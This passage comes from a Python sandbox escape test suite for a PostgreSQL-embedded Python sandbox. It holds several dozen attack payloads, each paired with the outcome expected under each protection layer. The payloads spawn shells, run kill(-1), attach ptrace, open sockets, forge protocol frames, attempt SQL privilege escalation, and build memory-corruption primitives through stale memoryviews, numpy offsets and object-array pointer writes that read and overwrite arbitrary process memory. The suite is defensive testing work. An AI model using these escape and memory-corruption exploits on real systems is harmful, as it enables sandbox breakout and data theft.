            return np.fromfile(canary_data, dtype="u1").tobytes().decode()
        """, off={DENIED}),
    Payload("import-non-preloaded-extension", """
        import resource
        def main():
            resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
            return resource.getrlimit(resource.RLIMIT_AS)
        """, off={SECCOMP, DENIED}),

    # -- files: write ---------------------------------------------------------
    Payload("open-write-dir", """
        def main(write_dir):
            with open(write_dir + "/pwned-open", "w") as f:
                f.write("pwned")
        """, off={SECCOMP}),
    Payload("open-append-canary", """
        def main(canary_tmp):
            with open(canary_tmp, "a") as f:
                f.write("pwned")
        """, off={SECCOMP}),
    # the directory is absent from a mount namespace root: pandas says so
    # first; under Landlock alone the write is refused by seccomp
    Payload("to-csv-write-dir", """
        import pandas as pd
        def main(write_dir):
            pd.DataFrame({"a": [1]}).to_csv(write_dir + "/pwned.csv")
        """, off={SECCOMP, DENIED}, landlock={SECCOMP}),
    Payload("to-csv-datadir", """
        import pandas as pd
        def main(data_dir):
            pd.DataFrame({"a": [1]}).to_csv(data_dir + "/pysandbox_pwned.csv")
        """, off={SECCOMP, DENIED}, landlock={SECCOMP}),
    Payload("numpy-save-write-dir", """
        import numpy as np
        def main(write_dir):
            np.save(write_dir + "/pwned.npy", np.arange(3))
        """, off={SECCOMP}),
    Payload("mkdir-write-dir", """
        import os
        def main(write_dir):
            os.mkdir(write_dir + "/pwned-dir")
        """, off={SECCOMP}),
    Payload("unlink-canary", """
        import os
        def main(canary_tmp):
            os.unlink(canary_tmp)
        """, off={SECCOMP}),

    # -- programs, processes, signals ----------------------------------------
    Payload("os-system", """
        import os
        def main(write_dir):
            return os.system("id > %s/pwned-os-system" % write_dir)
        """, off={SECCOMP}),
    Payload("subprocess-run", """
        import subprocess
        def main(write_dir):
            return subprocess.run(["sh", "-c", "id > %s/pwned-sp" % write_dir]).returncode
        """, off={SECCOMP}),
    Payload("os-execv", """
        import os
        def main(write_dir):
            os.execv("/bin/sh", ["sh", "-c", "id > %s/pwned-execv" % write_dir])
        """, off={SECCOMP}),
    Payload("os-posix-spawn", """
        import os
        def main(write_dir):
            return os.posix_spawn("/bin/sh", ["sh", "-c", "id > %s/pwned-spawn" % write_dir], {})
        """, off={SECCOMP}),
    Payload("os-fork", """
        import os
        def main(write_dir):
            pid = os.fork()
            if pid == 0:
                open(write_dir + "/pwned-fork", "w").write("child")
                os._exit(0)
            return pid
        """, off={SECCOMP}),
    Payload("threading-thread", """
        import threading
        def main():
            t = threading.Thread(target=lambda: None)
            t.start()
            t.join()
            return "thread ran"
        """, on=PYLAYER, off={EXCEPTION, SECCOMP}),
    Payload("os-kill-parent", """
        import os
        def main():
            os.kill(os.getppid(), 9)
        """, off={SECCOMP}),
    Payload("os-kill-minus-one", """
        import os
        def main():
            os.kill(-1, 9)
        """, off={SECCOMP}),
    Payload("os-kill-process-group", """
        import os
        def main():
            os.kill(0, 9)
        """, off={SECCOMP}),
    Payload("os-kill-sentinel", """
        import os, signal
        def main(target_pid):
            os.kill(target_pid, signal.SIGUSR1)
        """, off={SECCOMP}),
    Payload("os-kill-self", """
        import os
        def main():
            os.kill(os.getpid(), 9)
        """, off={CRASH}),
    Payload("sigstop-self", """
        import os, signal
        def main():
            os.kill(os.getpid(), signal.SIGSTOP)
            return "resumed"
        """, off={TIMEOUT}, options={"timeout_ms": 500}),
    Payload("sigsys-ignored-then-fork", """
        import os, signal
        def main():
            signal.signal(signal.SIGSYS, signal.SIG_IGN)
            return os.fork()
        """, off={SECCOMP}),
    # A Python SIGSYS handler makes blocked calls "return" their own number
    # instead of killing: nothing happens, and the listeners must stay silent.
    Payload("sigsys-handler-then-connect", """
        import signal, socket
        def main(tcp_port, unix_path):
            signal.signal(signal.SIGSYS, lambda *a: None)
            s = socket.socket()
            s.connect(("127.0.0.1", tcp_port))
            s.sendall(b"pwned")
            u = socket.socket(socket.AF_UNIX)
            u.connect(unix_path)
            u.sendall(b"pwned")
            return "connected?"
        """, off={OK, EXCEPTION, DENIED, SECCOMP}),

    # -- network ---------------------------------------------------------------
    Payload("socket-tcp-connect", """
        import socket
        def main(tcp_port):
            s = socket.socket()
            s.connect(("127.0.0.1", tcp_port))
            s.sendall(b"pwned")
        """, off={SECCOMP}),
    Payload("socket-unix-connect", """
        import socket
        def main(unix_path):
            s = socket.socket(socket.AF_UNIX)
            s.connect(unix_path)
            s.sendall(b"pwned")
        """, off={SECCOMP}),
    Payload("socket-udp-sendto", """
        import socket
        def main(udp_port):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"pwned", ("127.0.0.1", udp_port))
        """, off={SECCOMP}),
    Payload("socket-postgres", """
        import socket
        def main(pg_socket):
            s = socket.socket(socket.AF_UNIX)
            s.connect(pg_socket)
        """, off={SECCOMP}),

    # -- ctypes through numpy ------------------------------------------------------
    ctypes_payload("ctypes-libc-open-canary", """
        fd = check(libc.open(canary_data.encode(), 0), "open")
        buf = ctypes.create_string_buffer(256)
        n = check(libc.read(fd, buf, 256), "read")
        return buf.raw[:n].decode()
        """, params="canary_data", off={DENIED}),
    ctypes_payload("ctypes-libc-execve", """
        cmd = ("id > %s/pwned-execve" % write_dir).encode()
        argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", cmd, None)
        return check(libc.execve(b"/bin/sh", argv, None), "execve")
        """, params="write_dir"),
    ctypes_payload("ctypes-libc-fork", """
        return check(libc.fork(), "fork")
        """),
    ctypes_payload("ctypes-libc-socket", """
        return check(libc.socket(2, 1, 0), "socket")
        """),
    ctypes_payload("ctypes-libc-kill-minus-one", """
        return check(libc.kill(-1, 9), "kill")
        """),
    ctypes_payload("ctypes-libc-ptrace-attach", """
        return check(libc.ptrace(16, libc.getppid(), None, None), "ptrace")
        """),
    ctypes_payload("ctypes-libc-ptrace-traceme", """
        return check(libc.ptrace(0, 0, None, None), "ptrace")
        """),
    ctypes_payload("ctypes-string-at-zero", """
        return ctypes.string_at(0).hex()
        """, off={CRASH}),
    ctypes_payload("ctypes-mmap-prot-exec", """
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                              ctypes.c_int, ctypes.c_int, ctypes.c_long]
        p = libc.mmap(None, 4096, 7, 0x22, -1, 0)
        return p
        """),
    ctypes_payload("ctypes-mprotect-exec", """
        buf = ctypes.create_string_buffer(3 * 4096)
        page = (ctypes.addressof(buf) + 4095) & ~4095
        return check(libc.mprotect(ctypes.c_void_p(page), 4096, 7), "mprotect")
        """),
    ctypes_payload("ctypes-process-vm-readv", """
        class Iov(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        buf = ctypes.create_string_buffer(64)
        local = Iov(ctypes.addressof(buf), 64)
        remote = Iov(0x400000, 64)
        libc.process_vm_readv.restype = ctypes.c_long
        return check(libc.process_vm_readv(libc.getppid(), ctypes.byref(local), 1,
                                           ctypes.byref(remote), 1, 0), "process_vm_readv")
        """),
    # fcntl is allowed: F_SETOWN + F_SETSIG + O_ASYNC on the data socket asks
    # the kernel to signal another process (same uid) each time the backend
    # drains the socket after a non-blocking write hit EAGAIN.  Outside the
    # sandbox this delivers; Landlock's signal scoping (ABI 6) is what stops
    # it.  The frames stay valid, so the call itself may succeed: the check
    # is that the sentinel hears nothing.
    ctypes_payload("fcntl-setown-sigio-sentinel", """
        import os, struct, time
        check(libc.fcntl(3, 8, target_pid), "F_SETOWN")
        check(libc.fcntl(3, 10, 10), "F_SETSIG")
        flags = check(libc.fcntl(3, 3), "F_GETFL")
        check(libc.fcntl(3, 4, flags | 0o20000 | os.O_NONBLOCK), "F_SETFL")
        buf = (struct.pack("=II", 48, 32768) + b"." * 32768) * 48
        while buf:
            try:
                buf = buf[os.write(3, buf):]
            except BlockingIOError:
                time.sleep(0.01)
        return "flooded"
        """, params="target_pid", off={OK, SECCOMP, DENIED},
        options={"max_output_bytes": 4 << 20}),

    # -- the data channel: the backend trusts no byte ---------------------------
    Payload("protocol-unknown-frame", """
        import sb_io
        def main():
            sb_io.send(99, b"x")
            return 1
        """, off={CRASH}),
    Payload("protocol-garbage-bytes", """
        import os
        def main():
            os.write(3, b"\\xff" * 64)
            return 1
        """, off={CRASH}),
    Payload("protocol-two-results", """
        import sb_io
        def main():
            sb_io.send(sb_io.RESULT, b'{"main": "forged"}')
            return 1
        """, off={CRASH}),
    # user code that would run after the result: the generator's finally runs
    # when the call's namespace is torn down; the child must exit with its
    # last frame, so the call ends ok and nothing is left spinning
    Payload("finalizer-after-result", """
        def g():
            try:
                yield 1
            finally:
                while True:
                    pass
        keep = []
        def main():
            it = g()
            next(it)
            keep.append(it)
            return 1
        """, on={OK}, off={OK}),
    Payload("protocol-bad-json-result", """
        import sb_io, os
        def main():
            sb_io.send(sb_io.RESULT, b'{"main": ')
            os._exit(0)
        """, off={CRASH}),
    # a whole result, then the socket kept open past the wall limit: the
    # limit's error, not the result (review 99: a success after the limit)
    Payload("protocol-result-then-hold-the-socket-open", """
        import os, struct, time
        def main():
            body = b'{"main": 1}'
            os.write(3, struct.pack("=II", 49, len(body)) + body)
            time.sleep(60)
        """, off={TIMEOUT}, options={"timeout_ms": 1500}, max_ms=4000),
    # ... or spinning past the CPU limit (review 101 F10: a success)
    Payload("protocol-result-then-spin", """
        import os, struct
        def main():
            body = b'{"main": 1}'
            os.write(3, struct.pack("=II", 49, len(body)) + body)
            while True:
                pass
        """, off={CPU}, options={"timeout_ms": 5000, "cpu_ms": 300}, max_ms=3000),
    Payload("protocol-truncated-frame", """
        import os, struct
        def main():
            os.write(3, struct.pack("=II", 49, 1 << 20) + b"{")
            os._exit(0)
        """, off={CRASH, OUTPUT}),
    # ... and a cut frame, then the child waits for the backend to close
    # its end, as an honest child does after its result: told at once, not
    # at the wall limit as a timeout (review 127 F2: 10 s, 57014)
    Payload("protocol-truncated-frame-then-linger", """
        import sb_io, struct
        def main():
            sb_io.write(struct.pack("=II", sb_io.RESULT, 100) + b"[1,2", 0)
            sb_io.linger(True)
            return 1
        """, off={CRASH}, options={"timeout_ms": 1500}, max_ms=4000),

    # -- sql(): the child asks, the backend answers, and checks every byte ----
    # writes and locks are refused inside Python, whatever the layer
    Payload("sql-write-through-sql", """
        def main():
            out = []
            for q in ["CREATE TABLE pwned(x int)", "COPY (SELECT 1) TO '/tmp/pwned'",
                      "SELECT nextval('pg_class_oid_seq')",
                      "WITH x AS (INSERT INTO pg_temp.t VALUES (1)) SELECT 1",
                      "SELECT 1 FROM pg_class FOR SHARE", "BEGIN", "COMMIT",
                      "SELECT 1; DROP TABLE IF EXISTS pwned",
                      # volatile functions act beyond a read-only query
                      "SELECT lo_from_bytea(0, 'x')", "SELECT lo_export(0, '/tmp/pwned')",
                      "SELECT pg_terminate_backend(pg_backend_pid())",
                      "SELECT pg_advisory_lock(1)", "SELECT pg_notify('c', 'x')",
                      "SELECT query_to_xml('SELECT pg_terminate_backend(1)', true, true, '')",
                      "SELECT set_config('role', 'postgres', false)",
                      # a stable function that takes a transaction id
                      "SELECT pg_current_xact_id()"]:
                try:
                    sql(q)
                    out.append("ran")
                except SQLError as e:
                    out.append(e.sqlstate)
            if "ran" in out:
                raise PermissionError("a query ran: %r" % (out,))
            count = "SELECT count(*) AS n FROM pg_largeobject_metadata"
            if int(sql(count).n[0]) != 0:
                raise PermissionError("a large object outlived its query")
            return out
        """, on={OK}, off={OK}, role="ordinary"),
    # a query may call set_config(), but what it sets does not outlive it
    Payload("sql-session-settings", """
        def main():
            now = ("SELECT current_setting('search_path') AS s, "
                   "current_setting('pysandbox.timeout') AS t")
            before = sql(now).to_dict()
            try:
                sql("SELECT set_config('search_path', 'pwned', false), "
                    "set_config('pysandbox.timeout', '1h', false)")
            except SQLError as e:
                if e.sqlstate != "0A000":
                    raise
            after = sql(now).to_dict()
            if after != before:
                raise PermissionError("a setting outlived its query: %r" % (after,))
            return "unchanged"
        """, on={OK}, off={OK}, role="ordinary"),
    # a superuser's code gets no SQL at all
    Payload("sql-as-superuser", """
        def main():
            try:
                sql("SELECT pg_read_file('PG_VERSION')")
            except SQLError as e:
                if e.sqlstate == "42501":
                    return "refused"
            raise PermissionError("a superuser's sql() ran")
        """, on={OK}, off={OK}),
    # re-entry: pysandbox from inside sql() would take the session's sandbox
    Payload("sql-reentry", """
        def main():
            try:
                sql("SELECT sandbox_execute('def main(): return 1')")
            except SQLError as e:
                if e.sqlstate == "0A000":
                    return "refused"
            raise PermissionError("re-entered")
        """, on={OK}, off={OK}, role="ordinary"),
    # raw frames: a second request before the answer, an oversized one,
    # garbage in one, a forged answer type
    Payload("sql-frame-two-at-once", """
        import sb_io
        def main():
            sb_io.send(sb_io.SQL, b'{"query": "SELECT 1", "params": []}')
            sb_io.send(sb_io.SQL, b'{"query": "SELECT 2", "params": []}')
            return sb_io.recv()[0]
        """, off={CRASH, OK}, role="ordinary"),
    Payload("sql-frame-oversized", """
        import sb_io
        def main():
            sb_io.send(sb_io.SQL, b'{"query": "' + b"x" * (2 << 20) + b'"}')
            return sb_io.recv()[0]
        """, off={CRASH, OUTPUT}),
    Payload("sql-frame-garbage", """
        import sb_io
        def main():
            answers = []
            for payload in [b"\\xff\\xfe", b"[]", b'{"query": 1}', b'{"query": "SELECT 1", "params": 5}',
                            b'{"query": "SELECT $1::int", "params": [{"$query": "SELECT 1"}]}']:
                sb_io.send(sb_io.SQL, payload)
                answers.append(sb_io.recv()[0] == sb_io.SQL_ERROR and sb_io.recv()[0] == sb_io.END)
            if not all(answers):
                raise PermissionError("a malformed request was answered with rows")
            return answers
        """, off={OK}, role="ordinary"),
    Payload("sql-after-result", """
        import sb_io, os
        def main():
            sb_io.send(sb_io.RESULT, b'{"main": 1}')
            sb_io.send(sb_io.SQL, b'{"query": "SELECT 1", "params": []}')
            os._exit(0)
        """, off={CRASH}),
    # a large answer is sent in row groups while its query runs: a child
    # that asks and never reads holds the backend only until the call's
    # wall-clock limit (the backend waits for the socket, cancellable), and
    # one that asks and exits ends the answer at once
    Payload("sql-streamed-answer-never-read", """
        import sb_io, time
        def main():
            sb_io.send(sb_io.SQL, b'{"query": "SELECT repeat(\\'x\\', 100) || x AS s FROM generate_series(1, 2000000) x", "params": []}')
            time.sleep(60)
        """, off={TIMEOUT}, role="ordinary", options={"timeout_ms": 1500}, max_ms=4000),
    Payload("sql-streamed-answer-exit-after-asking", """
        import sb_io, os
        def main():
            sb_io.send(sb_io.SQL, b'{"query": "SELECT repeat(\\'x\\', 100) || x AS s FROM generate_series(1, 2000000) x", "params": []}')
            sb_io.recv_head()
            os._exit(0)
        """, off={CRASH}, role="ordinary", max_ms=4000),
    # ... and one that reads half a row group, then writes a result while
    # the backend still sends: the answer goes on, the result is read once
    # the answer is over (a held child's, in a workspace, is the call's: the
    # child's to give)
    Payload("sql-streamed-answer-forged-result-midway", """
        import sb_io
        def main():
            sb_io.send(sb_io.SQL, b'{"query": "SELECT repeat(\\'x\\', 100) || x AS s FROM generate_series(1, 2000000) x", "params": []}')
            sb_io.recv_head()
            sb_io.recv_bytes(1000)
            sb_io.send(sb_io.RESULT, b'{"main": "forged"}')
            while True:
                sb_io.recv_bytes(1 << 16)
        """, off={CRASH, TIMEOUT}, role="ordinary", options={"timeout_ms": 1500}, max_ms=4000),

    # -- resources ---------------------------------------------------------------
    Payload("memory-str-repeat", """
        def main():
            return len("x" * 10**10)
        """, on={MEMORY}, off={MEMORY}, options={"memory_mb": 128}),
    # base64, struct and zlib are allowed: a decompression bomb meets the
    # memory limit, bytes unpacked are only bytes
    Payload("memory-zlib-bomb", """
        import zlib
        def main():
            c = zlib.compressobj(1)
            bomb = b"".join(c.compress(bytes(1 << 24)) for _ in range(16)) + c.flush()
            return len(zlib.decompress(bomb))
        """, on={MEMORY}, off={MEMORY}, options={"memory_mb": 128}),
    Payload("memory-base64-huge", """
        import base64
        def main():
            return len(base64.b64encode(bytes(10**8)))
        """, on={MEMORY}, off={MEMORY}, options={"memory_mb": 128}),
    # self._x is allowed in a method of the code's own class: only on its
    # own objects, however the method is called, and never on a library's
    Payload("own-method-on-a-library-object", """
        import pandas as pd
        class Peek:
            def inside(self):
                return type(self._mgr).__name__
        def main():
            return Peek.inside(pd.DataFrame({"a": [1, 2]}))
        """, off={OK}),
    Payload("own-class-derived-from-a-library-class", """
        import pandas as pd
        class Frame(pd.DataFrame):
            def inside(self):
                return type(self._mgr).__name__
        def main():
            return Frame({"a": [1]}).inside()
        """, off={OK}),
    Payload("own-method-on-a-module", """
        import numpy as np
        class Peek:
            def inside(cls):
                return cls._core
        def main():
            return str(Peek.inside(np))
        """, off={OK, EXCEPTION}),
    Payload("own-method-self-rebound", """
        import numpy as np
        class Peek:
            def inside(self):
                self = np
                return str(self._core)
        def main():
            return Peek().inside()
        """, off={OK, EXCEPTION}),
    Payload("own-attribute-spelled-apart", """
        import warnings
        class Peek:
            def inside(self):
                return self. _module
        def main():
            return str(Peek.inside(warnings.catch_warnings()))
        """, off={OK}),
    # vars(), isinstance(x, type) and __slots__ (0.2): only the code's own
    # objects show their dictionaries; type stays the class of classes only
    # to isinstance()
    Payload("vars-of-a-module", """
        import warnings
        def main():
            return str(vars(warnings)["_module"])
        """, off={OK, EXCEPTION}),
    Payload("vars-of-a-library-object", """
        import warnings
        def main():
            return str(vars(warnings.catch_warnings())["_module"])
        """, off={OK}),
    Payload("vars-of-an-own-class-derived-from-a-library-class", """
        import warnings
        class Peek(warnings.catch_warnings):
            pass
        def main():
            return str(vars(Peek())["_module"])
        """, off={OK}),
    Payload("vars-of-an-own-class", """
        class C:
            def f(self):
                return 1
        def main():
            return str(vars(C)["f"].__globals__["__builtins__"])
        """, off={OK}),
    Payload("vars-without-arguments", """
        def main():
            return str(vars()["__builtins__"])
        """, off={OK, EXCEPTION}),
    Payload("isinstance-type-does-not-give-type", """
        def main():
            t = (type,)[0]
            return str(t("X", (), {"__array_interface__": {"data": (8, False)}}))
        """, on={EXCEPTION}, off={OK, EXCEPTION}),
    Payload("slots-dict-slot", """
        class C:
            __slots__ = ("__dict__", "__weakref__")
        def main():
            return str(C.__dict__)
        """, off={OK}),
    # "import dateutil.parser" binds a package of the allowed submodules
    # only: dateutil.zoneinfo reads its tarball, dateutil itself is not given
    Payload("partial-package-other-submodule", """
        import dateutil.parser
        def main():
            return len(dateutil.zoneinfo.get_zonefile_instance().zones)
        """, off={OK, EXCEPTION}),
    Payload("partial-package-from-import-other-submodule", """
        from dateutil import parser, zoneinfo
        def main():
            return len(zoneinfo.get_zonefile_instance().zones)
        """, off={OK, EXCEPTION}),
    Payload("partial-package-its-getattr", """
        import dateutil.parser
        def main():
            return str(getattr(dateutil, "__getattr__"))
        """, off={OK, EXCEPTION}),
    # -- standard library: io and struct lend or free memory the code keeps --
    # BufferedReader(raw) passes raw.readinto() a memoryview of its buffer
    # with no owner: kept past the reader, it reads and writes what is
    # allocated there next (a list's items: a fake bytearray over all
    # memory), then the module slot of a proxy is the real module
    Payload("io-bufferedreader-stale-view", """
        import io
        import json
        import struct
        class Raw(io.RawIOBase):
            def __init__(self):
                self.views = []
            def readable(self):
                return True
            def readinto(self, b):
                self.views.append(b)
                return 0
        def stale(n):
            raw = Raw()
            reader = io.BufferedReader(raw, n)
            reader.read(1)
            reader = None
            return raw.views[0]
        def main(canary_data):
            real = json
            if type(json).__name__ != "module":
                marker = "marker"
                kept = []
                for attempt in range(1000):
                    view = stale(200)
                    victim = [marker] * 25
                    words = view.cast("Q")
                    if words[0] == id(marker):
                        break
                    kept.append((view, victim))
                fake = struct.pack("<QQqqQQq", 1 << 20, id(bytearray), (1 << 63) - 1,
                                   (1 << 63) - 1, 0, 0, 0)
                words[0] = id(fake) + 32
                mem = victim[0]
                module = struct.unpack("<Q", bytes(mem[id(json) + 32:id(json) + 40]))[0]
                refcnt = struct.unpack("<Q", bytes(mem[module:module + 8]))[0]
                mem[module:module + 8] = struct.pack("<Q", refcnt + 100)
                words[1] = module
                real = victim[1]
            return real.codecs.open(canary_data).read()
        """, on={GUARD}, off={DENIED}),
    # super().__init__(fmt) in a subclass re-initialises a Struct under its
    # iter_unpack() iterator, which then reads the new format's size past
    # its 8-byte buffer (heap pointers); with the Python layer off the
    # process may read its own memory: OK
    Payload("struct-reinit-iter-unpack-overread", """
        import struct
        class S(struct.Struct):
            def again(self, fmt):
                super().__init__(fmt)
        def main():
            s = S("8s")
            it = s.iter_unpack(bytes(8))
            s.again("4096s")
            return next(it)[0][:64].hex()
        """, on={GUARD}, off={OK}),
    Payload("io-textiowrapper-over-a-buffer-of-the-code", """
        import io
        class Buf(io.BytesIO):
            def read1(self, n=-1):
                return b"x"
        def main():
            return io.TextIOWrapper(Buf(b"abc"), encoding="utf-8").read()
        """, off={OK}),
    Payload("io-textiowrapper-through-type", """
        import io, sys
        def main():
            return str(type(sys.stdout)(io.BytesIO(b"x")))
        """, on={GUARD, EXCEPTION}, off={OK, EXCEPTION}),
    # a seventh review (rev4), numpy and pandas memory: ndarray.resize(refcheck=False)
    # frees the memory under live views; offset= over a buffer is checked in 64
    # bits (negative or overflowing: any address); an array of objects exports
    # its pointers to any reader of bytes; Categorical(fastpath=True) and
    # MultiIndex(verify_integrity=False) take codes pandas' take reads unchecked
    Payload("numpy-resize-refcheck-false-view", """
        import numpy as np
        import struct
        def main():
            secret = b"secret-bytes-in-another-object"
            a = np.zeros(4096, dtype="u1")
            v = a[:]
            a.resize(1 << 16, refcheck=False)
            marker = "m"
            lst = [marker] * 512
            q = v.view("<u8")
            hits = [i for i in range(512) if int(q[i]) == id(marker)]
            if len(hits) < 400:
                return "list not over the freed buffer"
            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
            q[0] = id(fake) + 32
            mem = lst[0]
            addr = id(secret) + 32
            out = bytes(mem[addr:addr + len(secret)])
            q[0] = id(marker)
            return out.decode()
        """, on={VALIDATOR}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-ndarray-negative-offset", """
        import numpy as np
        def main():
            secret = b"secret-bytes-in-another-object"
            anchor = bytes(64)
            d = (id(secret) + 32) - (id(anchor) + 32)
            if d < 0:       # the secret below the buffer: a negative offset
                a = np.ndarray((len(secret),), dtype="u1", buffer=anchor, offset=d)
            else:           # above it: offset + size overflows numpy's 64-bit check
                a = np.ndarray(((1 << 63) - d,), dtype="u1", buffer=anchor, offset=d)
            return bytes(a[:len(secret)]).decode()
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-ndarray-offset-write-str", """
        import numpy as np
        def main():
            victim = "immutable string"
            buf = np.zeros(64, dtype="u1")
            for i in range(200):
                anchor = bytes(64) + bytes([i])
                d = id(buf) + 16 - (id(anchor) + 32)
                if d < 0:
                    break
            ptr = int(np.ndarray((1,), dtype="<u8", buffer=anchor, offset=d)[0])
            vaddr = id(victim) + 48
            w = np.ndarray((16,), dtype="u1", buffer=buf, offset=vaddr - ptr) if vaddr < ptr else \\
                np.ndarray(((1 << 63) - (vaddr - ptr),), dtype="u1", buffer=buf, offset=vaddr - ptr)
            w[:7] = np.frombuffer(b"CHANGED", dtype="u1")
            return victim
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-ndarray-offset-overflow", """
        import numpy as np
        def main():
            return repr(np.ndarray((4,), dtype="u1", buffer=bytes(8), offset=(1 << 63) - 2))
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-recarray-negative-offset", """
        import numpy as np
        def main():
            return repr(np.rec.array(bytes(8), dtype=[("a", "u1")], shape=4, offset=-8))
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-chararray-negative-offset", """
        import numpy as np
        def main():
            return repr(np.char.chararray((4,), itemsize=1, buffer=bytes(8), offset=-8))
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-frombuffer-of-object-array", """
        import numpy as np
        import struct
        def main():
            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
            secret = b"secret-bytes-in-another-object"
            o = np.array([None, None], dtype=object)
            np.frombuffer(o, dtype="u8")[0] = id(fake) + 32
            mem = o[0]
            a = id(secret) + 32
            return bytes(mem[a:a + len(secret)]).decode()
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("numpy-ndarray-buffer-object-array", """
        import numpy as np
        def main():
            o = np.array([None, "x"], dtype=object)
            q = np.ndarray((2,), dtype="u8", buffer=o)
            q[0] = q[1] + 8
            return repr(o[0])
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("struct-pack-into-object-array", """
        import numpy as np
        import struct
        def main():
            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
            secret = b"secret-bytes-in-another-object"
            o = np.array([None, None], dtype=object)
            struct.pack_into("<Q", o, 0, id(fake) + 32)
            mem = o[0]
            a = id(secret) + 32
            return bytes(mem[a:a + len(secret)]).decode()
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("bytesio-readinto-object-array", """
        import io
        import numpy as np
        import struct
        def main():
            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
            secret = b"secret-bytes-in-another-object"
            o = np.array([None, None], dtype=object)
            io.BytesIO(struct.pack("<QQ", id(fake) + 32, id(None))).readinto(o)
            mem = o[0]
            a = id(secret) + 32
            return bytes(mem[a:a + len(secret)]).decode()
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("memoryview-cast-object-array", """
        import numpy as np
        import struct
        def main():
            x = "an object"
            o = np.array([None, None], dtype=object)
            m = memoryview(o).cast("B")
            m[0:8] = struct.pack("<Q", id(x))
            return repr(o[0])
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("ndarray-data-cast-object-array", """
        import numpy as np
        import struct
        def main():
            x = "an object"
            o = np.array([None, None], dtype=object)
            m = o.data.cast("B")
            m[0:8] = struct.pack("<Q", id(x))
            return repr(o[0])
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("memoryview-object-slice-assign-no-incref", """
        import numpy as np
        def main():
            a = np.array(["x" * 5, "y" * 5], dtype=object)
            b = np.array([None, None], dtype=object)
            memoryview(b)[:] = memoryview(a)
            del a
            return repr(b)
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("categorical-fastpath-codes-oob", """
        import numpy as np
        import pandas as pd
        def main():
            c = pd.Categorical(np.array([0, 1, 5000000], dtype="i8"),
                               dtype=pd.CategoricalDtype(["a", "b"]), fastpath=True)
            return repr(np.asarray(c))
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("multiindex-verify-integrity-false", """
        import pandas as pd
        def main():
            mi = pd.MultiIndex(levels=[["a", "b"]], codes=[[0, 1, 5000000]],
                               verify_integrity=False)
            return repr(mi.values)
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("multiindex-set-codes-no-verify", """
        import pandas as pd
        def main():
            mi = pd.MultiIndex.from_arrays([["a", "b"]])
            mi = mi.set_codes([[0, 1, 5000000]], verify_integrity=False)
            return repr(list(mi))
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    # review 162 F3: resize() to another size now counts the references
    # itself (numpy's own count saw the checked method's); whatever holds
    # the array still keeps it from being moved under the holder
    Payload("numpy-resize-under-a-holder", """
        import numpy as np
        import pandas as pd
        def main():
            moved = []
            for make in (lambda a: a[1:], memoryview, iter, np.nditer,
                         lambda a: pd.Series(a, copy=False), lambda a: a.resize,
                         lambda a: {"k": a}):
                a = np.arange(4096.0)
                h = make(a)
                try:
                    a.resize(1 << 16)
                    moved.append(repr(type(h)))
                except ValueError:
                    pass
            if moved:
                return "resized under " + ", ".join(moved)
            raise ValueError("every resize refused")
        """, on={EXCEPTION}, off={EXCEPTION}),
    Payload("numpy-resize-refcheck-false-through-pandas-apply", """
        import numpy as np
        import pandas as pd
        def main():
            a = np.zeros(4096, dtype="u1")
            v = a[:]
            kw = {"refc" + "heck": False}
            pd.Series([0]).apply(lambda _: a.resize(1 << 16, **kw))
            pd.Series([a], dtype=object).apply(type(a).resize, args=(1 << 16,), **kw)
            return int(v.sum())
        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    # test packages of allowed libraries were importable: matplotlib.tests.
    # test_getattr hands out importlib.import_module (fix-1)
    Payload("tests-package-import-module", """
        import matplotlib
        def main(canary_data):
            from matplotlib.tests.test_getattr import import_module
            os = import_module("os")
            return os.read(os.open(canary_data, os.O_RDONLY), 200).decode()
        """, off={DENIED}),
    # pathlib.Path as another module's attribute (matplotlib.Path,
    # pandas.io.spss.Path, json.tool.Path): opens and lists files (fix-2)
    Payload("pathlib-through-matplotlib", """
        import matplotlib
        def main(canary_data):
            with matplotlib.Path(canary_data).open("rb") as f:
                return f.read(200).decode()
        """, off={DENIED}),
    Payload("pathlib-through-pandas-io-spss", """
        import pandas.io.spss as spss
        def main(canary_tmp):
            with spss.Path(canary_tmp).open("rb") as f:
                return f.read(200).decode()
        """, off={DENIED}),
    # numpy.ma's factories look a name up on the real numpy module:
    # np.load (refused by name everywhere else) unpickles a file object (fix-3)
    Payload("numpy-ma-factory-load-pickle", """
        import io
        import numpy as np
        def main(canary_data):
            load = type(np.ma.arange)("load", "x", "y")
